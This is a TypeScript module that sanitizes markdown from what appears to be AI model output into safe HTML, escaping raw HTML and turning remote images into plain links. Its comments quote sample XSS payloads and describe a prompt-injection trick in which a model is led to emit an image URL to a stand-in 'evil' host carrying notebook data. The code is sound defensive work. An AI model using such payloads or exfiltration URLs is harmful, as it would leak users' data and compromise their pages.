// Markdown -> sanitized HTML. `marked` parses (GitHub-flavoured), raw HTML in the source is shown
// as text rather than interpreted, and DOMPurify (through safe.ts, which also opens links in a new
// tab with rel="noopener noreferrer" and drops unsafe URLs) has the last word.
import { Marked, type Tokens } from "marked";
import { sanitizeHtml, sanitizeHtmlToFragment } from "./safe";

function escapeHtml(s: string): string {
  return s.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

const marked = new Marked({
  gfm: true,
  breaks: false,
  async: false,
  renderer: {
    // Model output is text: `<b>` in it is shown, not obeyed.
    html({ text }: Tokens.HTML | Tokens.Tag): string {
      return escapeHtml(text);
    },
    // After an inline <pre>, <code>, <kbd> or <script> tag, marked hands the text that follows
    // (up to the closing tag) through unescaped, flagged `escaped`. So `<code><img/src=x
    // onerror=...></code>` came out as a real <img> (left to the sanitizer) and
    // `<script>a</scr</script>` swallowed text. That text is text like any other: escape it.
    // Only that text: marked escapes other text itself, keeping entities such as `&amp;` and
    // `&copy;`, which escaping here would show as typed. (Block-level text never has the flag.)
    text(token: Tokens.Text | Tokens.Escape): string | false {
      return "escaped" in token && token.escaped === true ? escapeHtml(token.text) : false;
    },
    // A remote image in model output would load by itself and could carry notebook data out
    // in its URL (a prompt injection only has to ask for `![x](https://evil/?d=...)`). Show it
    // as a link the user can choose to open; inline `data:` images still render.
    image({ href, text, title }: Tokens.Image): string | false {
      if (/^\s*data:/i.test(href)) return false;
      const label = escapeHtml(text || title || "image");
      return `<a href="${escapeHtml(href)}">\u{1F5BC}\u{FE0F} ${label}</a>`;
    },
    code({ text, lang }: Tokens.Code): string {
      // An indented code block has no `lang` at all, a fence without a language has ""; marked
      // trims it.
      const language = (lang ?? "").split(/\s/)[0].replace(/[^\w+#.-]/g, "");
      const cls = language ? ` class="language-${language}"` : "";
      return `<pre class="ckw-md-code"><code${cls}>${escapeHtml(text.replace(/\n$/, ""))}\n</code></pre>\n`;
    },
  },
});

function parse(text: string): string {
  return marked.parse(typeof text === "string" ? text : String(text ?? ""), { async: false }) as string;
}

/** Renders markdown to an HTML string that is safe to assign to `innerHTML`. */
export function renderMarkdown(text: string): string {
  return sanitizeHtml(parse(text));
}

/** Replaces the children of `el` with the rendered markdown `text`. */
export function setMarkdown(el: HTMLElement, text: string): void {
  el.replaceChildren(sanitizeHtmlToFragment(parse(text)));
}
